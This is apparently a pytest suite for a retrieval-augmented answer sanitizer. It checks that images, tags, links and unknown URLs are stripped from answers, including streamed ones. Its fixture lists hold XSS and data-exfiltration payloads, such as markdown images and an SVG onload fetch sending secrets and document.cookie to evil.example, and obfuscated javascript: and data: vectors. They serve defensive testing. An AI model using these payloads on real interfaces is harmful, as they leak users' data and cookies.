"""Answers leave the service inert: no images, loading tags or unknown URLs, even streamed."""

from __future__ import annotations

import random

import pytest

from rag.answer.sanitize import REMOVED, sanitize_answer, sanitize_stream

PASSAGES = ["Read https://intranet.example/handbook for the details."]
CASES = [
    "27 days [1]. ![x](http://evil.example/?q=SECRET)",
    "See [the form](http://evil.example/c?d=S) now.",
    '<img src="http://evil.example/i?s=1"> Text http://evil.example/?q=abc. Also https://intranet.example/handbook',
    "Ref ![a][1]\n[1]: http://evil.example/?q=s",
    "Answer [2] and [3].",
]


def test_images_tags_links_and_unknown_urls_are_removed() -> None:
    out = [sanitize_answer(c, PASSAGES) for c in CASES]
    assert out[0] == "27 days [1]."
    assert out[1] == "See the form now."
    assert "<img" not in out[2] and "evil.example" not in out[2] and REMOVED in out[2]
    assert "https://intranet.example/handbook" in out[2]  # a URL the documents hold stays
    assert out[3] == "Ref" and out[4] == "Answer [2] and [3]."


HOSTILE = [
    '<div style="background:url(//evil.example/?q=SECRET)">27 days</div>',
    "27 days. ![a](//evil.example/p.png?q=SECRET)",
    "27 days, see //evil.example/?q=SECRET or www.evil.example/?q=SECRET",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">27 days</a> data:text/html,SECRET',
    "<svg/onload=fetch('//evil.example/'+document.cookie)>27 days",
    "27 days <!-- <img src=x onerror=alert(1)> -->",
    '<IMG SRC="jav&#x09;ascript:alert(1)">27 days <style>@import "//evil.example/x.css";</style>',
    "27 days [x](javascript:alert(1)) vbscript:msgbox(1)",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_no_tag_style_or_schemeless_url_survives(text: str) -> None:
    out = sanitize_answer(text, PASSAGES)
    assert "27 days" in out
    assert "<" not in out and "evil.example" not in out and "SECRET" not in out, out
    assert "url(" not in out and "javascript:" not in out.lower() and "data:" not in out, out


def test_plain_text_with_angle_brackets_and_ampersands_is_left_alone() -> None:
    text = "Pressure must stay < 3 bar and > 1 bar at R&D's test bench [1]."
    assert sanitize_answer(text) == text


@pytest.mark.parametrize("seed", range(20))
def test_streamed_pieces_add_up_to_the_sanitised_answer_and_never_leak(seed: int) -> None:
    rng = random.Random(seed)
    for text in CASES + HOSTILE:
        pieces, i = [], 0
        while i < len(text):
            n = rng.randint(1, 5)
            pieces.append(text[i:i + n])
            i += n
        streamed = list(sanitize_stream(pieces, PASSAGES))
        assert "".join(streamed) == sanitize_answer(text, PASSAGES)
        assert not any("evil.example" in s or "![" in s or "<" in s or "SECRET" in s for s in streamed)
